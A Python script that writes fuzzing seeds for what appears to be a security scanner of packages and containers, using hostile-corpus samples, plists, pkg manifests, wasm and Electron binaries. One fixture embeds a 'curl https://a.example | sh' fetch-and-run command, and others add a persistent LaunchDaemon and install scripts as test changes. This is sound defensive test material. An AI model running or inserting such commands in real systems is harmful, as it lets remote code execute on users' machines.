#!/usr/bin/env python3
"""Writes seeds for the fuzz targets, one file each:

    seeds.py common FOLDER                  one container of each kind by its real maker, the hostile corpus
    seeds.py members FOLDER                 files that the tests of places and of twins change, for fuzz_member
    seeds.py proofs FOLDER                  proofs of tests/ledger-suite with their files and trust files, for fuzz_verify
    seeds.py literals HEADS FOLDER TEST...  texts of unit tests; HEADS is two characters of which the first stands
                                            before a text, the second before a pair, or nothing

Nothing says which of the common ones is for which target: a fuzzer keeps what brings it further. Inputs of more than
MOST_BYTES are left out, since a fuzzer gets slow with them.
"""

import hashlib
import json
import os
import plistlib
import re
import struct
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True
TESTS = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tests")
for part in ("make", "props", "cases", "places", "twins"):
    sys.path.insert(0, os.path.join(TESTS, part))

MOST_BYTES = 256 << 10
LEAST_CHARACTERS = 12
TREE = {"package/index.js": b"'use strict';\nmodule.exports = (a, b) => a + b;\n" * 40, "package/bin/run": b"#!/bin/sh\nexec node x\n",
        "package/package.json": b'{"name": "sample", "version": "1.0.0"}\n'}


def keep(folder, data):
    if 0 < len(data) <= MOST_BYTES:
        with open(os.path.join(folder, hashlib.sha256(data).hexdigest()[:24]), "wb") as f:
            f.write(data)


def common(folder):
    import hostile
    import kinds
    for case in hostile.collect():
        keep(folder, case.build())
    with tempfile.TemporaryDirectory() as work:
        os.environ["KINDS_KEYS"] = os.path.join(work, "keys")
        os.makedirs(os.environ["KINDS_KEYS"])
        for name, _, maker in kinds.KINDS:
            target = os.path.join(work, "sample." + name)
            maker(TREE, target)
            with open(target, "rb") as f:
                keep(folder, f.read())


def member(path, old, new):
    """What fuzz_member takes."""
    parts = [x if isinstance(x, bytes) else str(x).encode("utf-8", "surrogateescape") for x in (path, old or "", new)]
    return parts[0] + b"\n" + parts[1] + b"\n\xff\n" + parts[2]


def signed(text, who="Sample"):
    """By a key that is made for it and kept nowhere."""
    with tempfile.TemporaryDirectory() as work:
        run = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=%s/O=%s" % (who, who), "-keyout", "key", "-out", "cert"]
        subprocess.run(run, cwd=work, check=True, stderr=subprocess.DEVNULL)
        with open(os.path.join(work, "text"), "w", encoding="ascii") as f:
            f.write(text)
        return subprocess.run(["openssl", "cms", "-sign", "-binary", "-in", "text", "-signer", "cert", "-inkey", "key", "-outform", "DER"],
                              cwd=work, check=True, stdout=subprocess.PIPE).stdout


def section(number, *parts):
    body = b"".join(parts)
    return bytes([number, len(body)]) + body


def word(text):
    return bytes([len(text)]) + text


def wasm(*calls, more=b""):
    """Imports of each kind, an export, a piece of data."""
    what = [b"\0\0"] * len(calls) + [b"\1\x70\1\1\2", b"\2\0\1", b"\3\x7f\0", b"\4\0\0"]
    imports = [word(b"env") + word(name) + kind for name, kind in zip(calls + (b"table", b"memory", b"global", b"tag"), what)]
    return b"\0asm\1\0\0\0" + section(1, b"\1\x60\0\0") + section(2, bytes([len(imports)]), *imports) + section(
        3, b"\1\0") + section(7, b"\1", word(b"run"), b"\0\1") + section(10, b"\1\4\0\x10\0\x0b") + section(
            11, b"\1\0\x41\0\x0b", word(b"https://a.example/x")) + section(0, word(b"name"), b"\0\2\1a") + more


def electron(states, wires=1):
    """A program with the fuses of Electron; no other byte 0xff."""
    wire = b"dL7pKGdnNz796PbbjQWNKmHXBZaB9tsX" + bytes([1, len(states)]) + states
    image = b"\0" * 56 + wire * wires
    return struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0) + struct.pack(
        "<IIQQQQQQ", 1, 5, 0, 0, 0, 120 + len(image), 120 + len(image), 4096) + image


def beside():
    """(path, OLD, NEW) of files whose kind their bytes or their place in a container say."""
    agent = {"Label": "a.example", "ProgramArguments": ["/bin/sh", "-c", "date"], "RunAtLoad": True, "StartInterval": 300}
    image = "cmd %s\nentrypoint /bin/%s\nenv PATH=/usr/%s\nuser %s\nexpose 80/tcp\nhistory RUN %s\n"
    package = "<pkg-info identifier=\"a.example\" version=\"%d\" auth=\"root\"><scripts>%s</scripts></pkg-info>\n"
    yield "LaunchDaemons/a.plist", plistlib.dumps(dict(agent, Label="b"), fmt=plistlib.FMT_BINARY), plistlib.dumps(
        agent, fmt=plistlib.FMT_BINARY)
    yield "a.app/Contents/Info.plist", "", plistlib.dumps({"CFBundleExecutable": "a", "LSEnvironment": {"A": "\u00fc"}, "n": [1.5, b"x"]},
                                                          fmt=plistlib.FMT_BINARY)
    yield "x.tar!/[image]", image % (("nginx",) * 5), image % (("curl https://a.example | sh",) * 5)
    yield "x.pkg!/PackageInfo", package % (1, ""), package % (2, "<preinstall file=\"./preinstall\"/><postinstall file=\"./run\"/>")
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", b"fd_write")
    yield "lib/x.wasm", "", wasm(b"log", more=b"\x7fbehind")
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=section(2, b"\1", word(b"env"), word(b"x"), b"\7"))
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=section(7, b"\2", word(b"run"), b"\0\x80\x80\x80\x80\x80\x80"))
    yield "lib/x.wasm", wasm(b"log"), wasm(b"log", more=b"\3\x70")
    yield "electron", electron(b"01001100", 2), electron(b"10110r11", 2)
    yield "electron", electron(b"0100110"), electron(b"0100110000")
    yield "x.p7s", "", signed("one")
    yield "x.p7s", signed("one"), signed("two", "Another")
    yield "x.p7s", signed("one"), signed("one")


def members(folder):
    import cases
    import rows
    for path, old, new in beside():
        keep(folder, member(path, old, new))
    for case in cases.CASES.values():
        for new in (case["bad"], case["good"]):
            keep(folder, member(case["path"], case["old"], new))
    for row in rows.ROWS:
        for path, text in row.new.items():
            if row.old.get(path) != text:
                keep(folder, member(path, row.old.get(path), text))


def proofs(folder):
    """One of each group and answer, around bytes 0xff as fuzz_verify takes them."""
    said = set()
    suite = os.path.join(TESTS, "ledger-suite")
    for name in sorted(n for n in os.listdir(suite) if n.endswith(".jsonl")):
        with open(os.path.join(suite, name), encoding="utf-8") as f:
            for case in map(json.loads, f):
                if (case["group"], case["expect"]) not in said:
                    said.add((case["group"], case["expect"]))
                    keep(folder, b"\xff".join(case[part].encode() for part in ("proof", "file", "trust")))


def c_literals(source):
    """Runs of arguments that are string literals, each a list of bytes."""
    literal = r'"(?:[^"\\\n]|\\.)*"'
    for run in re.findall(r"%s(?:\s*,?\s*%s)*" % (literal, literal), source):
        texts = [b""]
        for part in re.findall(literal + "|,", run):
            if part == ",":
                texts.append(b"")
            else:
                texts[-1] += re.sub(r"\\(x[0-9a-fA-F]+|[0-7]{1,3}|.)", plain, part[1:-1]).encode("utf-8", "surrogateescape")
        yield texts


def plain(escape):
    what = escape.group(1)
    named = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "f": "\f", "v": "\v"}
    if what[0] == "x" or what[0].isdigit():
        value = int(what[1:], 16) if what[0] == "x" else int(what, 8)
        return bytes([value & 255]).decode("utf-8", "surrogateescape")
    return named.get(what, what)


def literals(heads, folder, *tests):
    for name in tests:
        with open(os.path.join(TESTS, "unit", name), encoding="utf-8") as f:
            for texts in c_literals(f.read()):
                long_ones = [t for t in texts if len(t) >= LEAST_CHARACTERS]
                for text in long_ones:
                    keep(folder, heads[:1].encode() + text)
                for old, new in zip(long_ones, long_ones[1:]):
                    keep(folder, heads[1:].encode() + old + b"\xff" + new)


def main(argv):
    modes = {"common": common, "members": members, "proofs": proofs, "literals": literals}
    if len(argv) < 3 or argv[1] not in modes:
        sys.exit(__doc__)
    os.makedirs(argv[3 if argv[1] == "literals" else 2], exist_ok=True)
    modes[argv[1]](*argv[2:])


if __name__ == "__main__":
    main(sys.argv)
